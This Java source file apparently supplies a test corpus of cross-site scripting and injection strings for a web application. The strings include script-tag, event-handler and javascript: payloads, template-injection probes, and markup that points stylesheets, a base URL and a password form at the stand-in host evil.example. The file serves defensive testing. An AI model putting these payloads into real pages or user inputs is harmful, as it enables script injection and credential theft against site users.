package vn.nhip.web;

import java.util.List;

/** Texts that a source, a file or a person could try to run on somebody's screen. */
final class Attack {

    static final String CALL = "attacked";

    static final List<String> CORPUS = List.of(
            "<script>alert('" + CALL + "')</script>",
            "\"><img src=x onerror=alert('" + CALL + "')>",
            "'><svg onload=alert('" + CALL + "')>",
            "</textarea></title></details><script>alert('" + CALL + "')</script>",
            "javascript:alert('" + CALL + "')",
            "{{7*7}}${7*7}<%= 7*7 %>",
            "\" onmouseover=\"alert('" + CALL + "')\" style=\"position:fixed;inset:0",
            "<style>@import'//evil.example'</style><link rel=stylesheet href=//evil.example>",
            "<base href=//evil.example/><form action=//evil.example><input name=password>",
            "]]><!--<iframe srcdoc=\"<script>alert('" + CALL + "')</script>\">");

    private Attack() {}

    static String number(int index) {
        return CORPUS.get(index % CORPUS.size());
    }
}
